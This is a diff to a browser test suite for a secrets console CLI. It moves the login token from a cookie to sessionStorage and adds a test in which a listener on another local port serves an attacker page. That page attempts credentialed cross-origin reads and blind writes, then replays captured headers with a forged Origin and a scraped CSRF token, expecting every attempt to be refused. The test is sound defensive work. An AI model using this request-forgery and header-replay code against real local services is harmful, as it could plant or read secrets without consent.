@@ -1,19 +1,22 @@
 /**
  * `stage-secrets console` in a real browser: Debian's chromium driven by playwright-core, against the
- * console started as the CLI process. Adds each type, refuses an invalid JSON value inline, replaces,
- * deletes behind the confirmation, approves with a key and shows no Approve without one, picks up CLI
- * changes on reload; then checks that no response the browser received, no browser storage and no
+ * console started as the CLI process. Logs in without a cookie, and a second local listener on another
+ * port that the browser visits gets nothing it can read or write with. Adds each type, refuses an invalid
+ * JSON value inline, replaces, deletes behind the confirmation, approves with a key and shows no Approve
+ * without one, picks up CLI changes on reload; then checks that no response the browser received, no browser storage and no
  * cookie holds a value, and that the page asked no other host for anything.
  */
 import { execFileSync } from 'node:child_process';
 import { randomBytes, randomInt } from 'node:crypto';
 import * as fs from 'node:fs';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { type BrowserContext, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { makeWorkspace, REPO_ROOT, type Workspace } from '../test/support/cli.js';
-import { type LiveConsole, startConsole } from '../test/support/console.js';
+import { type LiveConsole, rawRequest, startConsole } from '../test/support/console.js';
 
 const CHROMIUM_FLAGS = [
   '--headless',
@@ -62,6 +65,7 @@ describe('stage-secrets console in chromium', () => {
   const bodies: Array<Promise<[string, string]>> = [];
   const requested: string[] = [];
   const posts: string[] = [];
+  const foreignOrigins: string[] = [];
 
   const cli = async (args: string[], env?: NodeJS.ProcessEnv) => {
     const r = await ws.run(args, { env });
@@ -125,14 +129,95 @@ describe('stage-secrets console in chromium', () => {
     ws?.cleanup();
   });
 
-  it('logs in from the printed URL, then drops the token from the address bar', async () => {
+  it('logs in from the printed URL, then drops the token from the address bar; no cookie', async () => {
     await page.goto(keyed.url);
     await expect.poll(() => page.url()).toBe(`${keyed.origin}/`);
     await page.getByRole('heading', { name: 'App secrets' }).waitFor();
-    const cookies = await context.cookies(keyed.origin);
-    expect(cookies.map((c) => [c.name, c.httpOnly, c.sameSite])).toEqual([
-      [`stage_secrets_console_${keyed.port}`, true, 'Strict'],
-    ]);
+    // the token lives in this tab's sessionStorage, which the browser keeps for this origin, port included
+    expect(await page.evaluate('JSON.stringify({ ...sessionStorage })')).toBe(
+      JSON.stringify({ 'stage-secrets-console-token': keyed.token }),
+    );
+    expect(await context.cookies()).toEqual([]);
+    // a tab opened without the token says where to get it
+    const bare = await context.newPage();
+    try {
+      await bare.goto(`${keyed.origin}/`);
+      await bare.getByText(/open the URL the console printed/).waitFor();
+    } finally {
+      await bare.close();
+    }
+  });
+
+  it('gives a listener on another local port, visited by the browser, nothing that reads or writes the console', async () => {
+    // cookies ignore ports: whatever the browser keeps for 127.0.0.1 goes to every port of it
+    const received: http.IncomingHttpHeaders[] = [];
+    const reports: string[] = [];
+    const attackerPage = `<!doctype html><title>local dev server</title><script>
+      const consoleOrigin = ${JSON.stringify(keyed.origin)};
+      const body = JSON.stringify({ name: 'FROM_PAGE', type: 'string', value: 'x' });
+      const tries = [
+        fetch(consoleOrigin + '/api/app', { credentials: 'include' }).then((r) => r.text()),
+        fetch(consoleOrigin + '/api/stages/dev/set', { method: 'POST', mode: 'no-cors', credentials: 'include',
+          headers: { 'Content-Type': 'text/plain' }, body }).then((r) => r.type),
+      ];
+      Promise.allSettled(tries).then((results) => fetch('/report', { method: 'POST',
+        body: JSON.stringify(results.map((r) => r.status === 'fulfilled' ? 'got ' + r.value : 'blocked')) }));
+    </script>`;
+    const listener = http.createServer((req, res) => {
+      received.push(req.headers);
+      const chunks: Buffer[] = [];
+      req.on('data', (c: Buffer) => chunks.push(c));
+      req.on('end', () => {
+        if (req.url === '/report') reports.push(Buffer.concat(chunks).toString('utf8'));
+        res.writeHead(200, { 'Content-Type': 'text/html' });
+        res.end(req.url === '/' ? attackerPage : '');
+      });
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const other = await context.newPage();
+    try {
+      const origin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+      foreignOrigins.push(origin);
+      await other.goto(`${origin}/`);
+      await expect.poll(() => reports.length, { timeout: 10_000 }).toBe(1);
+      // the page's own tries: an answer it cannot read (no CORS); its blind write is checked below
+      expect((JSON.parse(reports[0]!) as string[])[0]).toBe('blocked');
+      // then the listener replays every header it received, as a local program can, forging Origin too
+      const before = await listed();
+      for (const headers of received) {
+        const carried: Record<string, string> = {};
+        for (const name of ['cookie', 'authorization']) {
+          const value = headers[name];
+          if (typeof value === 'string') carried[name] = value;
+        }
+        const shell = await rawRequest(keyed.port, { headers: carried });
+        const csrf = /<meta name="csrf-token" content="([^"]+)">/.exec(shell.body)?.[1] ?? '';
+        const bearers = (carried.cookie ?? '').split(';').map((c) => c.trim().split('=').slice(1).join('='));
+        for (const bearer of ['', ...bearers]) {
+          const auth: Record<string, string> = bearer ? { ...carried, Authorization: `Bearer ${bearer}` } : carried;
+          const read = await rawRequest(keyed.port, { path: '/api/app', headers: auth });
+          expect(read.status, 'a read with what the listener received').toBe(403);
+          const write = await rawRequest(keyed.port, {
+            method: 'POST',
+            path: '/api/stages/dev/set',
+            headers: { ...auth, Origin: keyed.origin, 'Content-Type': 'application/json', 'X-CSRF-Token': csrf },
+            body: JSON.stringify({ name: 'LEAKED', type: 'string', value: 'from-another-port' }),
+          });
+          expect(write.status, 'a write with what the listener received').toBe(403);
+        }
+      }
+      expect(received.length).toBeGreaterThanOrEqual(2);
+      expect(await listed()).toEqual(before);
+      expect(before.some((s) => /^(LEAKED|FROM_PAGE):/.test(s))).toBe(false);
+      // nothing of the console's credential ever reached the listener
+      expect(JSON.stringify(received)).not.toContain(keyed.token);
+    } finally {
+      await other.close();
+      await new Promise<void>((resolve) => {
+        listener.close(() => resolve());
+        listener.closeAllConnections();
+      });
+    }
   });
 
   it('adds a secret of each type; the value field is a password field, cleared after each save', async () => {
@@ -303,16 +388,16 @@ describe('stage-secrets console in chromium', () => {
     for (const [url, body] of received) {
       for (const value of VALUES) expect(body.includes(value), `${url} holds a value`).toBe(false);
     }
-    for (const origin of [keyed.origin, keyless.origin]) {
-      await page.goto(`${origin}/`);
+    for (const con of [keyed, keyless]) {
+      await page.goto(con.url);
       await page.getByRole('heading', { name: 'App secrets' }).waitFor();
       const storage = await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }])');
-      expect(storage, origin).toBe('[{},{}]');
+      expect(storage, con.origin).toBe(JSON.stringify([{}, { 'stage-secrets-console-token': con.token }]));
     }
     const cookies = JSON.stringify(await context.cookies());
     for (const value of VALUES) expect(cookies.includes(value)).toBe(false);
     const origins = new Set(requested.map((u) => new URL(u).origin));
-    expect([...origins].sort()).toEqual([keyed.origin, keyless.origin].sort());
+    expect([...origins].sort()).toEqual([keyed.origin, keyless.origin, ...foreignOrigins].sort());
     const logs = [keyed, keyless].map((c) => `${c.cli.stdout().toString()}${c.cli.stderr().toString()}`).join('\n');
     for (const value of VALUES) expect(logs.includes(value), 'console output holds a value').toBe(false);
   });
